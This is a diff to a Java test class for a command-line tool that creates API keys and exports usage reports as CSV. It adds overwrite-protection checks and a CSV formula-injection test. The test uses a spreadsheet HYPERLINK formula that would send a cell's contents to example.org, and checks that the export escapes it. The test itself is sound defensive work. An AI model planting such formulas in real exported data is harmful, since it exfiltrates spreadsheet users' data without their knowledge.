@@ -11,6 +11,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.sql.Connection;
 import java.sql.Statement;
+import java.util.Arrays;
 import java.util.List;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -99,6 +100,30 @@ class KeysCommandDbTest {
         .extracting(Outcome::exitCode)
         .isEqualTo(0);
     assertThat(Files.readString(file)).isEqualTo(expected);
+
+    String[] again = {"usage", "--from", "2026-12-01", "--to", "2026-12-31", "--csv", file + ""};
+    refused("usage.csv: exists already, and is left as it is; --replace replaces it", again);
+    assertThat(Files.readString(file)).isEqualTo(expected);
+    String[] replacing = Arrays.copyOf(again, again.length + 1);
+    replacing[again.length] = "--replace";
+    assertThat(run(replacing).exitCode()).isZero();
+    assertThat(Files.readString(file)).contains("2026-12-01").doesNotContain("2026-11-01");
+  }
+
+  @Test
+  void noOwnerIsComputedByASpreadsheet() throws Exception {
+    String owner = "=HYPERLINK(\"//example.org?\"&A1,\"here\")";
+    assertThat(run("keys", "create", "--owner", owner).exitCode()).isZero();
+    try (Connection connection = database.as(DatabaseRole.ACCESS).connect();
+        Statement statement = connection.createStatement()) {
+      statement.execute(
+          """
+          INSERT INTO control.usage_day (day, key_id, plan, door, requests, units, refused)
+          VALUES ('2026-11-01', 1, 'registered', 'rest', 10, 25, 2)
+          """);
+    }
+    assertThat(run("usage", "--from", "2026-11-01", "--to", "2026-11-30").output())
+        .contains(",\"'" + owner.replace("\"", "\"\"") + "\",registered,");
   }
 
   @Test
